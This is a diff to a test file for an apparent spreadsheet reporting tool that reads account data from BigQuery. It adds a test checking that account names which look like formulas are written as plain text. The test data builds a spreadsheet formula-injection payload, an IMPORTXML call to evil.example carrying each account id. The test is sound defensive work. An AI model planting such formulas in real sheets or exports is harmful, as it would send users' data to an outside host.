@@ -8,7 +8,8 @@
  * Japanese, and never reads as good news; dist/ has no BigQuery at all. Then
  * the adapter (src/gas/bigquery.ts) alone: polling, pages, types.
  */
-import { readFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { Tree } from '../../src/core/tree/types';
 import { parseTreeJson } from '../../src/core/tree/validate';
@@ -35,6 +36,7 @@ const ACCOUNTS = 'cs-data.crm.accounts';
 const SNAPSHOTS = 'cs-data.crm.snapshots';
 const BILLING = 'cs-billing';
 const TYPED_ACCOUNTS = 'cs-data.typed.accounts';
+const HOSTILE_ACCOUNTS = 'cs-data.hostile.accounts';
 const TYPED_SNAPSHOTS = 'cs-data.typed.snapshots';
 const BQ_SHEET = 'KPI Lamp BigQuery';
 /** Data calls of a Run now over BigQuery (the lease, the tree, History, the accounts sheet, the report, the column, the rules, the record). */
@@ -217,6 +219,37 @@ describe('Run now over BigQuery tables (dist-bigquery/)', () => {
     const r = project.scriptRun('api_runNow') as RunResult;
     expect(r).toMatchObject({ ok: true, lit: baseline.result.lit, warehouse: { coloured: null } });
     expect(double.spreadsheets.get(A)!.sheets.get(BQ_SHEET)!.values().length).toBeGreaterThan(baseline.lit.size);
+  });
+
+  it('writes account names that look like formulas as text, never as formulas', () => {
+    const b = bigQuery();
+    if (!b.hasTable(HOSTILE_ACCOUNTS)) {
+      // The sample's Accounts with every name a formula (what a CRM export may hold).
+      const lines = readFileSync(join(SAMPLE, 'Accounts.csv'), 'utf8').trim().split('\n');
+      expect(lines[0].split(',').indexOf('account_name')).toBe(1);
+      const hostile = lines.map((line, i) =>
+        i === 0
+          ? line
+          : line.replace(
+              /^([^,]*),("(?:[^"]|"")*"|[^,]*),/,
+              (_, id) => `${id},"=IMPORTXML(""http://evil.example/?q=${id}"",""//a"")",`,
+            ),
+      );
+      const file = join(mkdtempSync(join(tmpdir(), 'kpi-lamp-bq-')), 'accounts.csv');
+      writeFileSync(file, `${hostile.join('\n')}\n`);
+      b.addTable({ path: HOSTILE_ACCOUNTS, csv: file });
+    }
+    const double = spreadsheet('en', true, { accounts_table: HOSTILE_ACCOUNTS });
+    double.services.BigQuery = b.service;
+    const project = loadProject(double, A, { dir: DIST_BQ });
+    expectRun(double, b);
+    const r = project.scriptRun('api_runNow') as RunResult;
+    expect(r.error).toBeNull();
+    const report = double.spreadsheets.get(A)!.sheets.get(BQ_SHEET)!;
+    const names = report.cells.map((row) => String(row[1]?.value ?? '')).filter((v) => v.includes('IMPORTXML'));
+    expect(names.length).toBeGreaterThan(0);
+    for (const v of names) expect(v).toMatch(/^'?=IMPORTXML\("http:\/\/evil\.example/);
+    for (const row of report.cells) for (const cell of row) expect(cell.formula).toBeUndefined();
   });
 
   it('gives the same over tables typed as a warehouse types them (INT64, FLOAT64, BOOL, DATE)', () => {
